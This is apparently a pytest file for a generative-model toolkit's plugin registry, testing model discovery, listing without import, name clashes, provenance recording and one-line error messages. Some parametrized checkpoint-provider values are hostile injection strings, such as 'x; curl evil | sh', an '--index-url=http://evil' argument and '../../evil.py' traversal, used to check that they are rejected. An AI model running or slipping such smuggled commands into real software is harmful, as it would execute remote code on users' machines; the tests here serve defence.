"""Models from outside: found, listed without being run, told apart, recorded, and missed in one line."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import Genkit, saved_checkpoint
from strangers import TINY, install, write_file

import genkit as package
from genkit import registry
from genkit.contract import ImageShape
from genkit.errors import CheckpointError, ModelError
from genkit.files import to_json
from genkit.keep import checkpoint, config, description


def marking(mark: Path) -> str:
    """A model whose import leaves a mark on the disk."""
    return f"{TINY}\nfrom pathlib import Path\n\nPath({str(mark)!r}).touch()\n"


@pytest.fixture(autouse=True)
def _fresh(monkeypatch: pytest.MonkeyPatch) -> None:
    """As in a process of its own."""
    monkeypatch.delenv(registry.VARIABLE, raising=False)
    for name in ("_typed", "_loaded", "_meant"):
        monkeypatch.setattr(registry, name, {})
    monkeypatch.setattr(registry, "_said", set())


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder in GENKIT_MODELS."""
    monkeypatch.setenv(registry.VARIABLE, str(tmp_path / "models"))
    (tmp_path / "models").mkdir()
    return tmp_path / "models"


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder on the path, into which packages are installed; what was imported of it is forgotten afterwards."""
    path = tmp_path / "site"
    path.mkdir()
    before = set(sys.modules)
    monkeypatch.syspath_prepend(path)
    monkeypatch.setattr(registry, "_entry_points", registry._entry_points.__wrapped__)
    yield path
    for name in sys.modules.keys() - before:
        if name.startswith(("acme", "zenith")):
            del sys.modules[name]


def train(genkit: Genkit, model: object, out: Path, *more: object) -> Path:
    options = ["--dataset", "mnist5k", "--epochs", "1", "--batch-size", "500", "--device", "cpu", "--out", out]
    outcome = genkit("train", model, *options, *more, "--json")
    assert outcome.code == 0, outcome.err
    return Path(outcome.json["run"])


# Found, and listed without being run


def test_all_four_places_are_found(folder: Path, site: Path, tmp_path: Path) -> None:
    write_file(folder / "of_folder.py")
    install(site, "acme-models", "1.2", "of-package = acme_models.deep.tiny", {"acme_models/deep/tiny.py": TINY})
    assert registry.add(str(write_file(tmp_path / "elsewhere" / "of_path.py"))) == "of-path"
    found = registry.names()
    for name in ("of-folder", "of-package", "of-path"):
        assert found[name] == "Tiny autoencoder of somebody else's."
        assert registry.name_of(registry.find(name)) == name
    assert registry.name_of(registry.find("vae")) == "vae"
    digest = hashlib.sha256(TINY.encode()).hexdigest()
    assert registry.provider_of("of-folder") == registry.File("of_folder.py", digest)
    assert registry.provider_of("of-package") == registry.Package("acme-models", "1.2")
    assert registry.provider_of("vae") == registry.GENKIT


def test_listing_runs_nothing_and_imports_no_torch(tmp_path: Path) -> None:
    """Neither a file, nor a package's __init__, nor the module in it."""
    mark = tmp_path / "run"
    source = marking(mark)
    write_file(tmp_path / "models" / "of_folder.py", source)
    files = {"acme_models/__init__.py": source, "acme_models/tiny.py": source}
    install(tmp_path / "site", "acme-models", "1.2", "of-package = acme_models.tiny", files)
    code = (
        "import sys; from genkit import registry\n"
        "found = registry.names()\n"
        "assert found['of-folder'] == found['of-package'] == 'Tiny autoencoder of somebody else\\'s.', found\n"
        "assert 'torch' not in sys.modules and 'acme_models' not in sys.modules\n"
        "from genkit.cli import main\n"
        "try:\n    main(['train', '--help'])\nexcept SystemExit as ended:\n    assert not ended.code\n"
        "assert 'torch' not in sys.modules\n"
    )
    path = f"{tmp_path / 'site'}:{Path(package.__file__).parents[1]}"
    environment = {"PYTHONPATH": path, registry.VARIABLE: str(tmp_path / "models")}
    ended = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, timeout=60)
    assert not ended.returncode, ended.stderr
    assert "of-folder" in ended.stdout
    assert "of-package" in ended.stdout
    assert not mark.exists()


def test_genkit_models_lists_what_each_can_do(genkit: Genkit, folder: Path, site: Path) -> None:
    write_file(folder / "tiny.py")
    write_file(folder / "broken.py", "import nothing_of_this_name\n")
    install(site, "acme-models", "1.2", "acme = acme_models", {"acme_models.py": TINY})
    outcome = genkit("models", "--json")
    found = {each["name"]: each for each in outcome.json["models"]}
    assert {"encodes", "generates", "likelihood"} <= set(found["vae"]["abilities"])
    assert "classifies" in found["classifier"]["abilities"]
    assert "generates" not in found["classifier"]["abilities"]
    assert found["vae"]["from"] == f"genkit {package.__version__}"
    assert found["tiny"]["abilities"] == ["encodes", "generates", "features"]
    assert found["tiny"]["from"] == str(folder / "tiny.py")
    assert found["acme"]["from"] == "acme-models 1.2"
    assert found["acme"]["help"] == "Tiny autoencoder of somebody else's."
    assert found["broken"]["problem"] == (
        "can't be loaded: broken.py, line 1: ModuleNotFoundError: No module named 'nothing_of_this_name'"
    )
    lines = genkit("models").out.splitlines()
    assert len(lines) == len(found)
    assert any(line.startswith("acme ") and "acme-models 1.2" in line for line in lines)


def test_a_folder_that_is_not_there_is_said_and_stops_nothing(
    genkit: Genkit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(registry.VARIABLE, str(tmp_path / "nowhere"))
    outcome = genkit("train", "--help")
    assert outcome.code == 0
    assert outcome.err.count("nowhere, which is no folder") == 1
    monkeypatch.setenv(registry.VARIABLE, f"~nobody-of-this-name/x:{'x' * 5000}")
    outcome = genkit("train", "--help")
    assert outcome.code == 0
    assert outcome.err.count("~nobody-of-this-name/x, which is no folder") == 1


def test_files_are_imported_apart_from_all_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file called as a module of Python's is not in its way, and each folder has helpers of its own."""
    one, other = tmp_path / "one", tmp_path / "other"
    helped = TINY + "\nfrom ._shared import WHOSE\n"
    for folder in (one, other):
        write_file(folder / "_shared.py", f"WHOSE = {folder.name!r}\n")
    write_file(one / "colorsys.py", helped)
    write_file(other / "tiny.py", helped + "from . import _shared\nassert _shared.WHOSE == 'other'\n")
    monkeypatch.setenv(registry.VARIABLE, f"{one}:{other}")
    kinds = [registry.find("colorsys"), registry.find("tiny")]
    assert [sys.modules[kind.__module__].WHOSE for kind in kinds] == ["one", "other"]
    import colorsys

    assert colorsys.rgb_to_hsv(0, 0, 0) == (0, 0, 0)
    assert str(one) not in sys.path


# Several of one name


def test_ours_win_out_loud_and_once(folder: Path, site: Path, caplog: pytest.LogCaptureFixture) -> None:
    write_file(folder / "vae.py")
    install(site, "acme-models", "1.2", "vae = acme_models", {"acme_models.py": TINY})
    for _ in range(2):
        assert registry.find("vae").__module__ == "genkit.models.vae"
    said = [record.getMessage() for record in caplog.records]
    assert len(said) == 2
    assert said[0] == f"there are several models called vae: genkit's own is used, and that of {folder}/vae.py isn't"
    assert "that of acme-models 1.2 isn't" in said[1]
    with pytest.raises(ModelError, match="genkit has a model vae of its own"):
        registry.add(str(folder / "vae.py"))


def test_a_path_wins_over_a_folder_and_a_folder_over_a_package(
    folder: Path, site: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    install(site, "acme-models", "1.2", "tiny = acme_models", {"acme_models.py": TINY})
    assert registry.find("tiny").__module__ == "acme_models"
    assert not caplog.records
    registry._meant.clear()  # as in a process of its own
    write_file(folder / "tiny.py")
    assert registry.provider_of("tiny") == registry.File("tiny.py", hashlib.sha256(TINY.encode()).hexdigest())
    assert "that of acme-models 1.2 isn't" in caplog.text
    registry.add(str(write_file(tmp_path / "elsewhere" / "tiny.py", TINY + "\n")))
    assert registry.provider_of("tiny").sha256 == hashlib.sha256(f"{TINY}\n".encode()).hexdigest()
    assert f"that of {folder}/tiny.py isn't" in caplog.text


def test_a_file_that_is_typed_and_in_a_folder_is_one(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
    registry.add(str(write_file(folder / "tiny.py")))
    registry.find("tiny")
    assert not caplog.records


def test_what_is_no_model_is_not_in_the_way_of_one(folder: Path, site: Path) -> None:
    write_file(folder / "my-model.py")
    write_file(folder / "my_model.py")
    assert sys.modules[registry.find("my-model").__module__].__file__ == str(folder / "my_model.py")
    install(site, "acme-models", "1.2", "tiny = acme_models:Tiny", {"acme_models.py": TINY})
    install(site, "zenith", "3", "tiny = zenith", {"zenith.py": TINY})
    assert registry.find("tiny").__module__ == "zenith"


def test_two_packages_of_one_name_are_refused_and_nothing_else_is(genkit: Genkit, site: Path) -> None:
    install(site, "acme-models", "1.2", "tiny = acme_models", {"acme_models.py": TINY})
    install(site, "zenith", "3", "tiny = zenith", {"zenith.py": TINY})
    outcome = genkit("train", "tiny", "--help")
    assert outcome.code == 2
    assert outcome.err.strip().splitlines() == [
        "genkit: the model tiny can't be loaded: several packages have a model of this name, acme-models 1.2 and of "
        "zenith 3; uninstall all but one"
    ]
    assert genkit("train", "vae", "-n").code == 0
    listed = {each["name"]: each for each in genkit("models", "--json").json["models"]}
    assert "uninstall all but one" in listed["tiny"]["problem"]


# What can't be loaded


CLASS = TINY.index("class Tiny")
FAULTS = {
    "syntax": ("x = (\n", "tiny.py, line 1: '(' was never closed"),
    "import": ("\nimport no_such_module\n", "tiny.py, line 2: ModuleNotFoundError: No module named 'no_such_module'"),
    "exception": ("1 / 0\n", "tiny.py, line 1: ZeroDivisionError: division by zero"),
    "exit": ("raise SystemExit(0)\n", "tiny.py, line 1: SystemExit: 0"),
    "bytes": ("x = '\0'\n", "null bytes"),
    "nothing": ("", "it has no model"),
    "not its own": ("from genkit.models.vae import VAE\n", "VAE is of genkit.models.vae"),
    "two": (TINY + TINY[CLASS:].replace("Tiny", "Other"), "it has several models, Other, Tiny; keep one in a file"),
    "abstract": (TINY.replace("def prior", "def prior_of"), "its class Tiny doesn't define prior"),
    "options": (
        TINY.replace("class Options(contract.Options):", "class Options:").replace(": contract.LatentDim = 4", " = 4"),
        "its Options don't inherit from contract.TrainingOptions",
    ),
    "an option of genkit's": (
        TINY.replace("LatentDim = 4", "LatentDim = 4\n        seed: int = 0"),
        "its option seed is one of genkit's own",
    ),
    "a flag of every command": (
        TINY.replace("LatentDim = 4", "LatentDim = 4\n        json: int = 0"),
        "its option json is one of genkit's own",
    ),
    "a recipe's word": (
        TINY.replace("LatentDim = 4", "LatentDim = 4\n        model: str = ''"),
        "its option model is one of genkit's own",
    ),
    "an option that says how long": (
        TINY.replace("LatentDim = 4", "LatentDim = 4\n        steps: int = 9"),
        "TypeError: an option of its own is called steps, as one that says how long to train; rename it",
    ),
    "plain import": ("import _beside\n", "write `from . import _beside`"),
}


@pytest.mark.filterwarnings("ignore:Field name")  # pydantic has a word to say of it, too
@pytest.mark.parametrize("fault", FAULTS)
def test_what_cannot_be_loaded_is_one_line_and_takes_nothing_along(genkit: Genkit, folder: Path, fault: str) -> None:
    source, says = FAULTS[fault]
    write_file(folder / "tiny.py", source)
    write_file(folder / "_beside.py", "")
    write_file(folder / "whole.py")
    outcome = genkit("train", "tiny", "-n")
    assert outcome.code == 2
    assert len(outcome.err.strip().splitlines()) == 1
    assert says in outcome.err
    assert "tiny.py" in outcome.err
    assert genkit("train", "whole", "-n").code == 0
    assert genkit("train", "--help").code == 0
    assert ("Traceback" in genkit("train", "tiny", "-n", "--debug").err) or fault in ("nothing", "two", "bytes")


def test_a_package_that_cannot_be_loaded_is_named(genkit: Genkit, site: Path) -> None:
    install(site, "acme-models", "1.2", "tiny = acme_models", {"acme_models.py": "import math\n1 / 0\n"})
    install(site, "zenith", "3", "lost = zenith.nowhere", {"zenith/__init__.py": ""})
    assert genkit("train", "tiny", "-n").err.strip() == (
        "genkit: acme_models of acme-models 1.2 can't be loaded: acme_models.py of acme-models 1.2, line 2: "
        "ZeroDivisionError: division by zero"
    )
    outcome = genkit("train", "lost", "-n")
    assert outcome.code == 2
    assert "its entry point names the module zenith.nowhere, which isn't there" in outcome.err


METADATA = "Metadata-Version: 2.1\nName: acme-models\nVersion: 1.2\n"


@pytest.mark.parametrize(
    ("entry", "metadata", "says"),
    [
        (b"mine = my-models.gan", METADATA, "its entry point is mine = my-models.gan; write it as mine = MODULE"),
        (b"mine =", METADATA, "its entry point is mine =; write it"),
        (b"mine", METADATA, "its entry point is mine; write it"),
        (b"mine = acme_models:Tiny", METADATA, "name the module alone, acme_models"),
        (b"mine = " + b"a" * 300 + b"." + b"b" * 300, METADATA, "which isn't there"),
        (b"mine = acme_models # \xff", METADATA, None),
        (
            b"mine = acme_models",
            METADATA.replace("1.2", "1.0 beta"),
            "the METADATA of its package is faulty, '1.0 beta",
        ),
        (b"mine = acme_models", METADATA.replace("Name", "Nom"), "the METADATA of its package is faulty"),
        (b"mine = acme_models", None, "the METADATA of its package is faulty"),
    ],
)
def test_a_faulty_package_takes_nothing_along(
    genkit: Genkit, site: Path, entry: bytes, metadata: str | None, says: str | None
) -> None:
    """Neither another's models, nor its own that are whole, nor what is said of another fault."""
    install(site, "zenith", "3", "whole = zenith", {"zenith.py": TINY})
    install(site, "acme-models", "1.2", "", {"acme_models.py": TINY})
    info = site / "acme_models-1.2.dist-info"
    (info / "entry_points.txt").write_bytes(b"[console_scripts]\nx = y:z\n[genkit.models]\n" + entry + b"\n")
    (info / "METADATA").unlink() if metadata is None else (info / "METADATA").write_text(metadata)
    outcome = genkit("train", "whole", "-n")
    assert outcome.code == 0
    assert genkit("train", "--help").code == genkit("models").code == 0
    if says is None:
        assert "the models of acme_models aren't found, for its entry_points.txt can't be read" in outcome.err
    else:
        outcome = genkit("train", "mine", "-n")
        assert outcome.code == 2
        assert outcome.err.startswith("genkit: the model mine can't be loaded: ")
        assert says in outcome.err
        assert len(outcome.err.strip().splitlines()) == 1
    assert "Traceback" not in outcome.err
    registry.find("whole")
    assert registry.fault_of(ValueError()) is None


def test_a_fault_is_told_of_without_a_search(genkit: Genkit, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else what broke the search would break the telling."""
    monkeypatch.setattr(registry, "offers", lambda: 1 / 0)
    outcome = genkit("train", "--help")
    assert outcome.code == 1
    assert "a fault in genkit/registry.py" in outcome.err


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("./nothing.py", "there is no file ./nothing.py"),
        ("models/", "there is no file models/"),
        ("~nobody-of-this-name/x.py", "there is no file ~nobody-of-this-name/x.py"),
        ("x" * 300 + ".py", "there is no file xxx"),
        ("notes/tiny.txt", "a model's file ends in .py"),
        ("my tiny.py", "'my tiny' is no name of a Python module"),
    ],
)
def test_what_is_typed_and_is_no_model_is_one_line(
    genkit: Genkit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str, says: str
) -> None:
    monkeypatch.chdir(tmp_path)
    for each in ("my tiny.py", "notes/tiny.txt", "models/tiny.py"):
        write_file(tmp_path / each)
    outcome = genkit("train", path)
    assert outcome.code == 2
    assert says in outcome.err
    assert len(outcome.err.strip().splitlines()) == 1


@pytest.mark.parametrize("typed", ["my_model", "my-model"])
def test_a_file_that_lies_here_is_pointed_at(
    genkit: Genkit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, typed: str
) -> None:
    write_file(tmp_path / "my_model.py")
    monkeypatch.chdir(tmp_path)
    outcome = genkit("train", typed)
    assert outcome.code == 2
    assert f"no model is called '{typed}'" in outcome.err
    assert "for the file that lies here, give its path: ./my_model.py (see genkit train --help)" in outcome.err
    assert "lies here" not in genkit("train", "my-mdoel").err


# Recorded


def test_a_run_says_whose_its_model_is(genkit: Genkit, site: Path, folder: Path, tmp_path: Path) -> None:
    """By name and hash; a path of a model's file is nowhere in it."""
    write_file(folder / "tiny.py")
    install(site, "acme-models", "1.2", "acme = acme_models", {"acme_models.py": TINY})
    digest = hashlib.sha256(TINY.encode()).hexdigest()
    expected = {
        "tiny": {"file": "tiny.py", "sha256": digest},
        "acme": {"package": "acme-models", "version": "1.2"},
        "ae": {"package": "genkit", "version": package.__version__},
    }
    for name, provider in expected.items():
        run = train(genkit, name, tmp_path / "runs", *(["--hidden", "8"] if name == "ae" else []))
        written = json.loads((run / "config.json").read_text())
        assert written["provider"] == provider
        assert config.read(run).provider == registry.provider_of(name)
        kept = json.loads(next(run.glob("checkpoints/*/checkpoint.json")).read_text())
        assert kept["provider"] == provider
        assert str(folder) not in json.dumps([written, kept])
        assert genkit("info", run, "--json").json["provider"] == provider


def test_a_model_is_not_looked_for_again_once_it_is_loaded(genkit: Genkit, folder: Path, tmp_path: Path) -> None:
    """Its file and its folder may go while it is trained, and another may come."""
    start = TINY.index("        output = ")
    gone = "        import shutil\n        shutil.rmtree(__file__.rpartition('/')[0], ignore_errors=True)\n"
    source = TINY[:start] + gone + TINY[start:]
    write_file(folder / "tiny.py", source)
    run = train(genkit, "tiny", tmp_path / "runs")
    assert not folder.exists()
    (kept,) = run.glob("checkpoints/*/checkpoint.json")
    assert json.loads(kept.read_text())["provider"]["sha256"] == hashlib.sha256(source.encode()).hexdigest()
    loaded = registry.load("tiny")
    write_file(folder / "tiny.py")
    assert registry.load("tiny") is loaded
    registry.add(str(write_file(tmp_path / "elsewhere" / "tiny.py")))
    assert registry.find("tiny") is not loaded.kind


def test_what_is_not_installed_is_asked_for_in_a_line(
    genkit: Genkit, folder: Path, site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_file(folder / "tiny.py")
    install(site, "acme-models", "1.2", "acme = acme_models", {"acme_models.py": TINY})
    runs = {name: train(genkit, name, tmp_path / "runs") for name in ("tiny", "acme")}
    monkeypatch.delenv(registry.VARIABLE)
    monkeypatch.setattr(sys, "path", [each for each in sys.path if each != str(site)])
    says = {
        "tiny": "the model tiny isn't here; it was trained from a file tiny.py: name the folder that has it with "
        "GENKIT_MODELS=FOLDER, or give it to train, as in genkit train FOLDER/tiny.py --resume RUN",
        "acme": "the model acme isn't here; it was trained with the package acme-models 1.2: if you trust that, "
        "pip install acme-models",
    }
    for name, run in runs.items():
        commands = (["sample"], ["info"], ["embed"], ["evaluate"], ["export"], ["report"], ["train", "--resume"])
        for command in commands:
            outcome = genkit(*command, run)
            assert outcome.code == 2, command
            assert outcome.err.strip().splitlines() == [f"genkit: {says[name]}"], command
        with pytest.raises(ModelError, match="isn't here"):
            package.load(run)
    assert genkit("train", folder / "tiny.py", "--resume", runs["tiny"], "--epochs", "2", "--json").json["steps"] == 16


def test_a_file_that_has_changed_is_said_and_used_where_the_weights_fit(
    genkit: Genkit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = write_file(tmp_path / "before" / "tiny.py")
    run = train(genkit, before, tmp_path / "runs")
    monkeypatch.setattr(registry, "_typed", {})
    write_file(tmp_path / "after" / "tiny.py", TINY + "# changed\n")
    monkeypatch.setenv(registry.VARIABLE, str(tmp_path / "after"))
    outcome = genkit("sample", run, "--seeds", "0-3")
    assert outcome.code == 0
    assert outcome.err.count("tiny.py isn't as it was when the model was trained") == 1
    other = TINY.replace("options.latent_dim", "2 * options.latent_dim")
    write_file(tmp_path / "other" / "tiny.py", other)
    monkeypatch.setenv(registry.VARIABLE, str(tmp_path / "other"))
    refused = genkit("sample", run)
    assert refused.code == 1
    assert "its weights aren't those of the model that it describes" in refused.err


def test_of_several_files_the_one_that_was_trained_with_is_used(
    genkit: Genkit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And trained with, when the run goes on."""
    one, other = tmp_path / "one", tmp_path / "other"
    write_file(
        one / "tiny.py", TINY.replace("latent_dim: contract.LatentDim = 4", "latent_dim: contract.LatentDim = 5")
    )
    write_file(other / "tiny.py")
    monkeypatch.setenv(registry.VARIABLE, str(other))
    run = train(genkit, "tiny", tmp_path / "runs")
    for command in (["sample", run, "--seeds", "0-3"], ["info", run], ["train", "--resume", run, "--epochs", "2"]):
        monkeypatch.setattr(registry, "_meant", {})
        monkeypatch.setenv(registry.VARIABLE, f"{one}:{other}")
        outcome = genkit(*command)
        assert outcome.code == 0
        assert "several models" not in outcome.err
    kept = json.loads((run / "checkpoints" / "000016" / "checkpoint.json").read_text())
    assert kept["provider"]["sha256"] == hashlib.sha256(TINY.encode()).hexdigest()
    monkeypatch.setattr(registry, "_meant", {})
    assert registry.provider_of("tiny").sha256 != kept["provider"]["sha256"]


def test_a_model_of_another_package_is_said_too(
    genkit: Genkit, folder: Path, site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As when a file has grown up to be one."""
    write_file(folder / "tiny.py")
    run = train(genkit, "tiny", tmp_path / "runs")
    monkeypatch.delenv(registry.VARIABLE)
    install(site, "acme-models", "1.2", "tiny = acme_models", {"acme_models.py": TINY})
    outcome = genkit("sample", run, "--seeds", "0-3")
    assert outcome.code == 0
    assert "the model tiny was trained as that of tiny.py, and here it is that of acme-models 1.2" in outcome.err


def rewritten(path: Path, **changes: object) -> Path:
    """A checkpoint that says other things of itself, with the right hashes, as anybody could write it."""
    about = json.loads((path / description.DESCRIPTION).read_text()) | changes
    (path / description.DESCRIPTION).write_bytes(to_json(about))
    files = {name: (path / name).read_bytes() for name in description.FILES if (path / name).exists()}
    (path / description.MANIFEST).write_bytes(description.manifest_of(files))
    return path


@pytest.mark.parametrize("given", ["evil", "evil.py", "./evil.py", "{here}/evil.py", "../evil", "os", "genkit.cli"])
def test_nothing_that_a_checkpoint_names_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: str) -> None:
    """Though it lies in the working directory and on the path."""
    mark = tmp_path / "run"
    write_file(tmp_path / "evil.py", marking(mark))
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(tmp_path)
    name = given.format(here=tmp_path)
    saved = saved_checkpoint(
        tmp_path / "000002", registry.find("ae")(ImageShape(1, 8, 8), registry.find("ae").Options())
    )
    for provider in (None, {"file": "evil.py", "sha256": "0" * 64}, {"package": "evil", "version": "1"}):
        with pytest.raises((CheckpointError, ModelError)) as error:
            checkpoint.read(rewritten(saved, model=name, provider=provider))
        assert "\n" not in str(error.value)
    assert not mark.exists()


@pytest.mark.parametrize(
    "provider",
    [
        {"package": "x; curl evil | sh", "version": "1"},
        {"package": "--index-url=http://evil", "version": "1"},
        {"package": "acme", "version": "1\n2"},
        {"file": "../../evil.py", "sha256": "0" * 64},
        {"file": "evil.py", "sha256": "none"},
        {"package": "acme", "version": "1", "path": "/evil.py"},
        "acme",
    ],
    ids=str,
)
def test_a_provider_is_a_name_and_nothing_else(tmp_path: Path, provider: object) -> None:
    kind = registry.find("ae")
    saved = saved_checkpoint(tmp_path / "000002", kind(ImageShape(1, 8, 8), kind.Options()))
    with pytest.raises(CheckpointError) as error:
        checkpoint.read(rewritten(saved, model="other", provider=provider))
    assert "pip install" not in str(error.value)


@pytest.mark.parametrize("name", ["\x1b[31mred", "a\nb", "x" * 1000])
def test_a_name_that_is_none_is_not_printed_as_it_is(name: str) -> None:
    for provider in (registry.File("tiny.py", "0" * 64), registry.Package("a", "1"), registry.Package("genkit", "99")):
        with pytest.raises(ModelError) as error:
            registry.require_again(name, provider)
        assert str(error.value).isprintable()
        assert len(str(error.value)) < 300
        assert "install genkit" not in str(error.value)
        assert "-U genkit" not in str(error.value)


def test_a_classifier_on_a_strangers_encoder_says_whose_it_is(
    genkit: Genkit, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_file(folder / "tiny.py")
    run = train(genkit, "tiny", tmp_path / "runs")
    judge = train(genkit, "classifier", tmp_path / "runs", "--init-from", run)
    assert package.load(judge).description.options["body"]["provider"]["file"] == "tiny.py"
    monkeypatch.delenv(registry.VARIABLE)
    for command in (["embed", judge], ["train", "--resume", judge]):
        outcome = genkit(*command)
        assert outcome.code == 2
        assert "the model tiny isn't here; it was trained from a file tiny.py" in outcome.err
        assert len(outcome.err.strip().splitlines()) == 1


# A fault of its own


@pytest.mark.parametrize(
    ("method", "command"),
    [
        ("def losses", ["train"]),
        ("def __init__", ["train"]),
        ("def decode", ["sample"]),
        ("def encode", ["sample", "--reconstruct"]),
        ("def encode", ["embed"]),
        ("def encode", ["evaluate"]),
        ("def __init__", ["sample"]),
        ("def decode", ["export", "--format", "pt2"]),
    ],
)
def test_a_fault_of_a_model_names_its_line(
    genkit: Genkit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, method: str, command: list[str]
) -> None:
    """The run is of a model without the fault, which its file has by now."""
    start = TINY.index("\n", TINY.index(method)) + 1
    faulty = write_file(
        tmp_path / "faulty" / "tiny.py", TINY[:start] + "        import math\n        math.sqrt(-1)\n" + TINY[start:]
    )
    line = faulty.read_text()[:start].count("\n") + 2
    if command == ["train"]:
        out = ["--dataset", "mnist5k", "--out", tmp_path / "runs"]
        outcome = genkit("train", faulty, *out)
        again = genkit("train", faulty, *out, "--debug")
    else:
        run = train(genkit, write_file(tmp_path / "whole" / "tiny.py"), tmp_path / "runs")
        monkeypatch.setattr(registry, "_typed", {})
        monkeypatch.setenv(registry.VARIABLE, str(faulty.parent))
        outcome = genkit(command[0], run, *command[1:])
        again = genkit(command[0], run, *command[1:], "--debug")
    errors = [each for each in outcome.err.splitlines() if each.startswith("genkit: ")]
    assert outcome.code == 1
    assert len(errors) == 1
    assert f"tiny.py, line {line}" in errors[0]
    assert "math domain error" in errors[0] or "expected a nonnegative input" in errors[0]
    assert "Traceback" not in outcome.err
    assert "Traceback" in again.err


def test_a_fault_of_a_package_names_it(genkit: Genkit, site: Path, tmp_path: Path) -> None:
    """Also where the last line that ran is one of genkit's, which it called."""
    source = TINY.replace("nn.Linear(image.numbers, options.latent_dim)", "nets.mlp([image.numbers, 4], 'no such')")
    source = source.replace("from genkit import contract", "from genkit import contract, nets")
    install(site, "acme-models", "1.2", "acme = acme_models.tiny", {"acme_models/tiny.py": source})
    outcome = genkit("train", "acme", "--dataset", "mnist5k", "--out", tmp_path)
    assert outcome.code == 1
    assert outcome.err.strip() == (
        "genkit: a fault in tiny.py of acme-models 1.2, line 18, KeyError: 'no such'; --debug shows how it came about"
    )


def test_what_a_model_prints_when_it_is_loaded_is_no_result(genkit: Genkit, folder: Path) -> None:
    write_file(folder / "tiny.py", TINY + "\nprint('hello')\n")
    outcome = genkit("train", "tiny", "-n", "--json")
    assert outcome.json["model"] == "tiny"
    assert "hello" in outcome.err
